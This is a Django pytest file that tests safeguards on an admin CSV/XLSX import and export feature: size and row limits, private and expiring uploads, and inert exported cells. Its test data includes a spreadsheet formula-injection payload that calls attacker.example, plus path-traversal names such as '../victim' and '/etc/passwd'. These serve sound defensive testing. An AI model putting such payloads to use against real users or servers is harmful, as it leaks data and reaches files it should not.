"""Import and export with limits (editorial/imports.py): caps on the file,
uploads in a private folder tied to the session, a confirm step that reads
nothing the form names, a preview that locks nothing, and exported cells
that cannot run code."""

import csv
import io
import os
import stat
import time

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from core.models import ContentVersion
from tests.factories import make_source
from tests.support.admin import sign_in
from treatments.models import Source

pytestmark = pytest.mark.django_db

SOURCES = "/admin/treatments/source/"
CSV, XLSX = 0, 1


@pytest.fixture(autouse=True)
def upload_dir(settings, tmp_path):
    folder = tmp_path / "uploads"
    settings.IMPORT_UPLOAD_DIR = str(folder)
    return folder


def export(client, file_format=CSV):
    response = client.post(SOURCES + "export/", {"format": file_format, "resource": 0})
    assert response.status_code == 200, response.content[:300]
    return response.content


def preview(client, content, file_format=CSV, name="sources.csv"):
    return client.post(
        SOURCES + "import/",
        {
            "resource": 0,
            "format": file_format,
            "import_file": SimpleUploadedFile(name, content),
        },
    )


def confirm(client, response, **changes):
    return client.post(
        SOURCES + "process_import/",
        {**response.context["confirm_form"].initial, **changes},
    )


def csv_rows(content):
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def sources_csv(rows):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["slug", "title"])
    writer.writerows(rows)
    return out.getvalue().encode()


def file_errors(response):
    return response.context["form"].errors.get("import_file", [])


ACTIVE_TITLES = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "'=already quoted",
]


class TestExportsCannotRunCode:
    @pytest.fixture
    def sources(self):
        return [
            make_source(slug=f"s{n}", title=title)
            for n, title in enumerate(ACTIVE_TITLES)
        ]

    def test_csv_cells_are_inert(self, editor_client, sources):
        rows = csv_rows(export(editor_client))
        titles = {row["slug"]: row["title"] for row in rows}
        assert titles["s0"] == "'" + ACTIVE_TITLES[0]
        assert titles["s1"] == "'+1+1"
        assert titles["s2"] == "'-2+3"
        assert titles["s3"] == "'@SUM(1,1)"
        assert titles["s4"] == "''=already quoted"
        for row in rows:
            for value in row.values():
                assert not value or value[0] not in "=+-@\t\r", value

    def test_xlsx_cells_are_text_and_inert(self, editor_client, sources):
        book = openpyxl.load_workbook(io.BytesIO(export(editor_client, XLSX)))
        cells = [cell for row in book.active.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
        titles = [cell.value for cell in cells]
        assert "'" + ACTIVE_TITLES[0] in titles
        assert not any(
            isinstance(v, str) and v[:1] in {"=", "+", "-", "@"} for v in titles
        )

    @pytest.mark.parametrize("file_format", [CSV, XLSX])
    def test_a_round_trip_gives_the_same_text(
        self, editor_client, sources, file_format
    ):
        content = export(editor_client, file_format)
        Source.objects.filter(slug__in=[s.slug for s in sources]).update(title="x")
        name = "sources.xlsx" if file_format == XLSX else "sources.csv"
        response = preview(editor_client, content, file_format, name)
        assert confirm(editor_client, response).status_code == 302
        titles = dict(Source.objects.values_list("slug", "title"))
        assert [titles[f"s{n}"] for n in range(len(ACTIVE_TITLES))] == ACTIVE_TITLES

    def test_a_control_character_stored_before_does_not_break_xlsx(self, editor_client):
        source = make_source(title="Vertical")
        Source.objects.filter(pk=source.pk).update(title="Vertical\x0btab")
        book = openpyxl.load_workbook(io.BytesIO(export(editor_client, XLSX)))
        values = [c.value for row in book.active.iter_rows() for c in row]
        assert "Verticaltab" in values


class TestLimits:
    def test_a_file_too_big(self, editor_client, settings):
        settings.IMPORT_MAX_BYTES = 100
        response = preview(editor_client, sources_csv([["a", "A" * 200]]))
        assert response.status_code == 200
        assert "an import takes at most 0 MB" in file_errors(response)[0]
        assert (
            "confirm_form" not in response.context
            or not response.context["confirm_form"]
        )

    def test_too_many_rows(self, editor_client, settings, upload_dir):
        settings.IMPORT_MAX_ROWS = 2
        response = preview(
            editor_client, sources_csv([[f"s{n}", f"S {n}"] for n in range(3)])
        )
        assert file_errors(response) == [
            "This file has 3 rows; an import takes at most 2. Split it into "
            "smaller files and import each."
        ]
        assert not Source.objects.exists()
        assert list(upload_dir.iterdir()) == []  # not kept

    def test_a_cell_too_long(self, editor_client, settings):
        settings.IMPORT_MAX_CELL = 50
        response = preview(editor_client, sources_csv([["s1", "T" * 51]]))
        assert file_errors(response) == [
            "Line 2, column “title”, holds 51 characters; a cell holds at most 50."
        ]

    def test_a_small_xlsx_that_unpacks_huge(self, editor_client, settings):
        settings.IMPORT_MAX_BYTES = 20_000
        settings.IMPORT_MAX_UNPACKED = 10
        settings.IMPORT_MAX_CELL = 1_000_000  # this limit alone
        book = openpyxl.Workbook()
        book.active.append(["slug", "title"])
        for n in range(20):  # 600,000 characters, a few KB packed
            book.active.append([f"s{n}", "x" * 30_000])
        packed = io.BytesIO()
        book.save(packed)
        assert len(packed.getvalue()) < 20_000
        response = preview(editor_client, packed.getvalue(), XLSX, "big.xlsx")
        assert "This XLSX file unpacks to" in file_errors(response)[0]

    def test_not_an_xlsx_file(self, editor_client):
        response = preview(editor_client, b"slug,title\n", XLSX, "x.xlsx")
        assert file_errors(response) == [
            "This is not an XLSX file. Choose the format the file is in."
        ]

    def test_a_control_character_in_a_cell_is_not_imported(self, editor_client):
        response = preview(editor_client, sources_csv([["s1", "Bad\x0btitle"]]))
        confirm(editor_client, response)
        assert Source.objects.get(slug="s1").title == "Badtitle"


class TestUploads:
    def test_kept_privately_under_a_name_the_server_chose(
        self, editor_client, upload_dir
    ):
        response = preview(editor_client, sources_csv([["s1", "One"]]))
        (kept,) = upload_dir.iterdir()
        assert len(kept.name) == 32 and kept.name != "sources.csv"
        assert stat.S_IMODE(upload_dir.stat().st_mode) == 0o700
        assert stat.S_IMODE(kept.stat().st_mode) == 0o600
        key = response.context["confirm_form"].initial["import_file_name"]
        assert key == kept.name
        assert confirm(editor_client, response).status_code == 302
        assert Source.objects.get(slug="s1").title == "One"
        assert list(upload_dir.iterdir()) == []  # deleted once imported

    def test_a_preview_with_errors_keeps_nothing(self, editor_client, upload_dir):
        response = preview(editor_client, sources_csv([["", "No slug"]]))
        assert not response.context.get("confirm_form")
        assert list(upload_dir.iterdir()) == []

    def test_unconfirmed_uploads_expire(self, editor_client, upload_dir, settings):
        response = preview(editor_client, sources_csv([["s1", "One"]]))
        (kept,) = upload_dir.iterdir()
        an_hour_ago = time.time() - settings.IMPORT_UPLOAD_SECONDS - 1
        os.utime(kept, (an_hour_ago, an_hour_ago))
        preview(editor_client, sources_csv([["s2", "Two"]]))  # any import sweeps
        assert not kept.exists()
        after = confirm(editor_client, response, format="0")
        assert after.status_code == 302
        assert not Source.objects.filter(slug="s1").exists()

    @pytest.mark.parametrize(
        "name", ["victim", "../victim", "/etc/passwd", "0" * 32, "%2e%2e/victim"]
    )
    def test_the_confirm_step_reads_and_deletes_no_file_it_names(
        self, editor_client, upload_dir, tmp_path, name
    ):
        upload_dir.mkdir(mode=0o700, exist_ok=True)
        victims = [upload_dir / "victim", tmp_path / "victim", upload_dir / ("0" * 32)]
        for victim in victims:
            victim.write_text("slug,title\nplanted,Planted\n")
        response = editor_client.post(
            SOURCES + "process_import/",
            {
                "import_file_name": name,
                "original_file_name": "x.csv",
                "format": "0",
                "resource": "0",
            },
            follow=True,
        )
        assert response.status_code == 200
        assert "That import had expired, or was already done" in (
            response.content.decode()
        )
        assert all(victim.exists() for victim in victims)
        assert not Source.objects.filter(slug="planted").exists()

    def test_another_sessions_upload_is_not_yours(self, editor_client, editor):
        response = preview(editor_client, sources_csv([["s1", "One"]]))
        other = sign_in(Client(), editor)
        refused = confirm(other, response)
        assert refused.status_code == 302
        assert refused["Location"] == SOURCES + "import/"
        assert not Source.objects.exists()
        assert confirm(editor_client, response).status_code == 302
        assert Source.objects.filter(slug="s1").exists()

    @pytest.mark.parametrize("bad", ["abc", "99", "-1", ""])
    def test_a_bad_format_index_is_never_a_500(self, editor_client, bad):
        response = preview(editor_client, sources_csv([["s1", "One"]]))
        # The format previewed is the one imported, whatever the form says.
        assert confirm(editor_client, response, format=bad).status_code == 302
        assert Source.objects.get(slug="s1").title == "One"

    def test_confirming_twice_imports_once(self, editor_client):
        response = preview(editor_client, sources_csv([["s1", "One"]]))
        assert confirm(editor_client, response).status_code == 302
        Source.objects.all().delete()
        again = confirm(editor_client, response)
        assert again.status_code == 302
        assert again["Location"] == SOURCES + "import/"
        assert not Source.objects.exists()


def test_the_preview_changes_no_version_and_takes_no_lock(editor_client):
    make_source(slug="s1", title="Before")
    before = ContentVersion.current()[0]
    with CaptureQueriesContext(connection) as captured:
        response = preview(editor_client, sources_csv([["s1", "After"], ["s2", "New"]]))
    assert response.context["confirm_form"] is not None
    version_table = ContentVersion._meta.db_table
    writes = [
        q["sql"]
        for q in captured.captured_queries
        if version_table in q["sql"] and not q["sql"].lstrip().startswith("SELECT")
    ]
    assert writes == []
    assert ContentVersion.current()[0] == before
    assert Source.objects.get(slug="s1").title == "Before"
    confirm(editor_client, response)
    assert ContentVersion.current()[0] > before
